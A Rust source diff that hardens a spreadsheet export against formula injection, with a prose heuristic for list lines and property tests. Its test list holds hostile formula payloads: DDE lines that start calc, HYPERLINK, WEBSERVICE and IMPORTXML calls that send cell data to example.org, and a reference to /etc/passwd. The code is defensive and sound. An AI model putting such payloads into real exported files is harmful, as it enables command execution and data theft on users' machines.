@@ -94,17 +94,208 @@ fn line_of(text: &str, at: usize) -> u64 {
     text[..at].bytes().filter(|byte| *byte == b'\n').count() as u64 + 1
 }
 
-/// Whether a spreadsheet program would run this text as a formula, or would but for apostrophes in front of it.
-fn is_formula(cell: &str) -> bool {
-    cell.trim_start_matches('\'').starts_with(['=', '+', '-', '@', '\t', '\r'])
+/// What a text begins with that some spreadsheet program may take for a formula: the signs of Excel, LibreOffice and Google
+/// Sheets, white space that they skip on the way to one, and the wide forms that East Asian versions read as the same.
+const FORMULA_STARTS: [char; 11] =
+    ['=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}'];
+
+/// A text without the apostrophes and blanks in front of it.
+fn bare(cell: &str) -> &str {
+    cell.trim_start_matches(['\'', ' ', '\u{a0}', '\u{3000}'])
 }
 
-/// An apostrophe in front of a text that a spreadsheet program would run as a formula. [`unguard`] undoes it exactly.
+/// Whether a spreadsheet program might run this text as a formula, or would but for apostrophes or blanks in front of it.
+fn is_formula(cell: &str) -> bool {
+    let cell = bare(cell);
+    cell.starts_with(FORMULA_STARTS) && !cell.strip_prefix(['-', '+']).is_some_and(is_prose)
+}
+
+/// Whether what follows a plus or a minus is plain words, such as the line of a list or a remark between dashes.
+///
+/// A formula that does anything calls a function, addresses another sheet or file, starts a program or computes: it needs
+/// a bracket, an exclamation mark, a quotation mark, a bar, an operator, a number or the name of a cell. So prose is at
+/// least two words of which the first has letters only, and nothing but letters, digits, blanks, line ends, dashes and
+/// the marks of sentences. The most that a program makes of that is a calculation with names that nobody has defined,
+/// which ends in an error and reaches nothing. A single word is no prose: the reference of a column looks like one.
+fn is_prose(after_sign: &str) -> bool {
+    let text = after_sign.trim_start_matches(' ');
+    let Some((first, rest)) = text.split_once([' ', '\n']) else { return false };
+    let first = first.strip_suffix([',', '.', ';']).unwrap_or(first);
+    let plain = |letter: char| letter.is_alphanumeric() || " \n-,.;:?".contains(letter);
+    !first.is_empty() && first.chars().all(char::is_alphabetic) && !rest.trim().is_empty() && rest.chars().all(plain)
+}
+
+/// An apostrophe in front of a text that a spreadsheet program might run as a formula. [`unguard`] undoes it exactly.
 pub(crate) fn guard(cell: String) -> String {
     if is_formula(&cell) { format!("'{cell}") } else { cell }
 }
 
-/// Undoes the apostrophe with which our own exports keep spreadsheet programs from running a text as a formula.
+/// Takes off the apostrophe that [`guard`] put in front of a text, and no other.
 pub(crate) fn unguard(cell: &str) -> &str {
     cell.strip_prefix('\'').filter(|rest| is_formula(rest)).unwrap_or(cell)
+}
+
+/// Takes off an apostrophe that some program put in front of a text because of its first sign, whatever follows that.
+pub(crate) fn unguard_foreign(cell: &str) -> &str {
+    cell.strip_prefix('\'').filter(|rest| bare(rest).starts_with(FORMULA_STARTS)).unwrap_or(cell)
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    /// Formulas of all three programs that compute, call, fetch or start something, as attackers write them.
+    const FORMULAS: &[&str] = &[
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "=HYPERLINK(\"http://example.org/?\"&A1,\"open\")",
+        "+HYPERLINK(\"http://example.org\")",
+        "- HYPERLINK(\"http://example.org\")",
+        "-WEBSERVICE (A1)",
+        "+IMPORTXML(CONCAT(\"http://example.org\",A1),\"//a\")",
+        "=DDE(\"cmd\";\"/C calc\";\"x\")",
+        "+'file:///etc/passwd'#$passwd.A1",
+        "-[book.xlsx]Sheet1!A1 is it",
+        "-Sheet1!A1 and more",
+        "-A1",
+        "- A1 and more",
+        "+AB12 and more",
+        "-A:A",
+        "+A",
+        "-none",
+        "-TRUE",
+        "-1",
+        "- 1 and more",
+        "+49 30 123456",
+        "--1",
+        "-+A1",
+        "+-words and more",
+        "-a & b",
+        "-a ^ b",
+        "-a * b",
+        "-a / b",
+        "-a = b",
+        "-a < b",
+        "-a > b",
+        "-a + b",
+        "-a % b",
+        "-a {1} b",
+        "-a # b",
+        "-a $ b",
+        "-a ~ b",
+        "-a \\ b",
+        "-a @ b",
+        "-a\tb",
+        "-a b\r\nc",
+        "-a \"b\"",
+        "-a isn't b",
+        "-a (b)",
+        "-words and\n=1+1",
+        "-\u{ff21}\u{ff11} and more",
+        "-\nwords and more",
+        " =1+1",
+        "\u{a0}=1+1",
+        "'=1+1",
+        "' '=1+1",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\u{ff1d}1+1",
+        "\u{ff0b}1",
+        "\u{ff0d}1",
+        "\u{ff20}SUM(1)",
+        "=",
+        "-",
+        "+",
+        "@",
+        "- ",
+    ];
+
+    /// What people write that begins with a sign.
+    const PROSE: &[&str] = &[
+        "-none, unintended-",
+        "- shared logins on the ward",
+        "- shared logins on the ward\n- doors that do not close\n- 3 lost badges",
+        "+ new hires since May",
+        "- people who are well-known",
+        "- Zutritt ohne Prüfung, siehe Raum 4",
+        "",
+        "plain",
+        "a=b",
+        "it's (1)",
+        "'quoted'",
+    ];
+
+    #[test]
+    fn what_a_program_might_run_is_guarded() {
+        for text in FORMULAS {
+            assert_eq!(guard((*text).to_owned()), format!("'{text}"), "{text:?}");
+        }
+    }
+
+    #[test]
+    fn prose_goes_out_as_it_is() {
+        for text in PROSE {
+            assert_eq!(guard((*text).to_owned()), *text, "{text:?}");
+        }
+    }
+
+    #[test]
+    fn whatever_stands_in_front_a_formula_stays_guarded_and_comes_back() {
+        for text in FORMULAS.iter().chain(PROSE) {
+            for before in ["", "'", "''", " ", "' ", " '", "x"] {
+                let text = format!("{before}{text}");
+                let out = guard(text.clone());
+                assert_eq!(unguard(&out), text, "{text:?}");
+            }
+        }
+    }
+
+    #[test]
+    fn an_apostrophe_of_other_programs_is_taken_off_before_every_sign() {
+        for (cell, text) in [
+            ("'- shared logins", "- shared logins"),
+            ("'=1+1", "=1+1"),
+            ("'+49 30", "+49 30"),
+            ("'quoted'", "'quoted'"),
+            ("- x", "- x"),
+        ] {
+            assert_eq!(unguard_foreign(cell), text);
+        }
+    }
+
+    /// Texts made of the signs that matter here, often.
+    fn texts() -> impl Strategy<Value = String> {
+        prop_oneof!["['=+@\t\r\n \u{a0}-]{0,3}[-=+(!|&^*/'\"A-C0-2 a-c,.;:?\n\u{ff1d}\u{ff21}ä]{0,12}", any::<String>(),]
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(20_000))]
+        #[test]
+        fn import_takes_off_exactly_what_export_put_on(text in texts()) {
+            let out = guard(text.clone());
+            prop_assert_eq!(unguard(&out), text.as_str());
+            prop_assert!(out == text || out.strip_prefix('\'') == Some(text.as_str()));
+        }
+
+        #[test]
+        fn what_goes_out_bare_begins_with_no_sign_or_can_do_nothing(text in texts()) {
+            let out = guard(text.clone());
+            let dangerous = out.contains(['=', '(', '!', '|', '&', '^', '*', '/', '"', '\'', '@', '[', '{', '<', '>', '#', '$']);
+            let signed = out.trim_start().starts_with(['-', '+']);
+            let always = out.trim_start_matches(' ').starts_with(['=', '@', '\t', '\r', '\n']);
+            prop_assert!(!always, "{:?}", out);
+            prop_assert!(!(signed && dangerous), "{:?}", out);
+            if signed {
+                let after = out.trim_start().trim_start_matches(['-', '+']).trim_start();
+                prop_assert!(after.starts_with(char::is_alphabetic), "{:?}", out);
+            }
+        }
+    }
 }
